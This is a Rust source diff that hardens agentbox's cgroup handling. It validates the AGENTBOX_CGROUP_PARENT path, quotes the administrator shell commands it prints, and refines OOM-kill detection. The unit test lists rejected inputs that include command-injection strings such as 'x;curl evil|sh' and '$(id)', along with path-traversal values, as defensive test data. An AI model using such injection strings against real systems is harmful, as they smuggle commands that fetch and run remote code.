@@ -71,17 +71,32 @@ pub fn parent_name() -> String {
     }
 }
 
+/// A parent name agentbox uses as given: a relative cgroup path of plain
+/// components (it ends up in paths and in the shell commands `doctor` prints).
+pub fn parent_valid(parent: &str) -> bool {
+    !parent.is_empty()
+        && parent
+            .split('/')
+            .all(|c| !c.is_empty() && c != "." && c != "..")
+        && parent
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "._@:/-".contains(c))
+}
+
 /// What an administrator does so that this user's invocations get cgroups.
 pub fn fix_text(version: Version) -> String {
     let uid = nix::unistd::geteuid().as_raw();
     let parent = parent_name();
+    if !parent_valid(&parent) {
+        return "set AGENTBOX_CGROUP_PARENT to a cgroup path below /sys/fs/cgroup: letters, digits and . _ @ : - between slashes, no `..`".into();
+    }
     match (version, uid) {
         (_, 0) => "is cgroupfs mounted read-write at /sys/fs/cgroup?".into(),
         (Version::V1, _) => format!(
             "ask an administrator to delegate a cgroup: for c in memory pids cpu,cpuacct; do mkdir -p /sys/fs/cgroup/$c/{parent} && chown -R {uid} /sys/fs/cgroup/$c/{parent}; done"
         ),
         (Version::V2, _) => format!(
-            "ask an administrator to delegate a cgroup: as root, P=/sys/fs/cgroup/{parent}; mkdir -p $P/session && chown {uid} $P $P/cgroup.procs $P/cgroup.threads $P/cgroup.subtree_control && chown -R {uid} $P/session && echo '+memory +pids +cpu' > $P/cgroup.subtree_control (with memory, pids and cpu enabled in its parent's too); then start agentbox from a shell moved inside: echo $$ > /sys/fs/cgroup/{parent}/session/cgroup.procs (under systemd: a unit with Delegate=yes, and AGENTBOX_CGROUP_PARENT naming an empty cgroup inside it)"
+            "ask an administrator to delegate a cgroup and start your shell inside it: as root, P='/sys/fs/cgroup/{parent}'; mkdir -p \"$P/session\" && chown {uid} \"$P\" \"$P/cgroup.procs\" \"$P/cgroup.threads\" \"$P/cgroup.subtree_control\" && chown -R {uid} \"$P/session\" && echo '+memory +pids +cpu' > \"$P/cgroup.subtree_control\" (with memory, pids and cpu enabled in its parent's too), then move your shell there, also as root: echo PID_OF_YOUR_SHELL > \"$P/session/cgroup.procs\" (a user cannot move itself out of a cgroup it was not delegated; under systemd: a unit with Delegate=yes whose processes sit in a leaf, e.g. DelegateSubgroup=, and AGENTBOX_CGROUP_PARENT naming an empty cgroup beside them)"
         ),
     }
 }
@@ -103,12 +118,16 @@ impl InvocationCgroup {
     /// Creates `<parent>/<name>` with the limits applied.
     pub fn create(name: &str, limits: CgroupLimits) -> Result<Self, CgroupError> {
         let version = Version::detect();
-        let path = format!("{}/{name}", parent_name());
+        let parent = parent_name();
+        let path = format!("{parent}/{name}");
         let err = |message: String| CgroupError::Setup {
             path: path.clone(),
             message,
             fix: fix_text(version),
         };
+        if !parent_valid(&parent) {
+            return Err(err(format!("`{parent}` is not a usable cgroup parent")));
+        }
         let controllers: Vec<String> = match version {
             Version::V1 => CONTROLLERS_V1,
             Version::V2 => CONTROLLERS_V2,
@@ -221,16 +240,20 @@ impl InvocationCgroup {
                 stat.oom_control.oom_kill > 0 || (stat.fail_cnt > 0 && stat.oom_control.under_oom)
             }
             // cgroups-rs reads no OOM count on v2 (its `oom_control` stays zero):
-            // the kernel's is `oom_kill` in `memory.events` (this cgroup and below).
-            Version::V2 => std::fs::read_to_string(mem.path().join("memory.events"))
-                .ok()
-                .and_then(|events| {
-                    events.lines().find_map(|l| {
-                        l.strip_prefix("oom_kill ")
-                            .and_then(|n| n.trim().parse::<u64>().ok())
-                    })
-                })
-                .is_some_and(|n| n > 0),
+            // the kernel's are in `memory.events` (this cgroup and below). `oom`
+            // counts this cgroup's limit being hit, so a kill by the global OOM
+            // killer or an ancestor's limit is not blamed on the tool's.
+            Version::V2 => {
+                let events =
+                    std::fs::read_to_string(mem.path().join("memory.events")).unwrap_or_default();
+                let count = |key: &str| {
+                    events
+                        .lines()
+                        .find_map(|l| l.strip_prefix(key)?.trim().parse::<u64>().ok())
+                        .unwrap_or(0)
+                };
+                count("oom ") > 0 && count("oom_kill ") > 0
+            }
         }
     }
 
@@ -334,5 +357,37 @@ impl InvocationCgroup {
             message: format!("cannot remove: {last}"),
             fix: "processes may be left behind".into(),
         })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::parent_valid;
+
+    /// A parent from AGENTBOX_CGROUP_PARENT ends up in paths and in the shell
+    /// commands doctor prints: only plain relative components pass.
+    #[test]
+    fn parent_names_are_plain_relative_paths() {
+        for ok in [
+            "agentbox",
+            "agentbox-1000",
+            "user.slice/user@1000.service/agentbox",
+            "cgroup.procs/x",
+        ] {
+            assert!(parent_valid(ok), "{ok}");
+        }
+        for bad in [
+            "",
+            "..",
+            "a/../b",
+            "a//b",
+            "./a",
+            "x;curl evil|sh",
+            "a b",
+            "$(id)",
+            "a'b",
+        ] {
+            assert!(!parent_valid(bad), "{bad}");
+        }
     }
 }
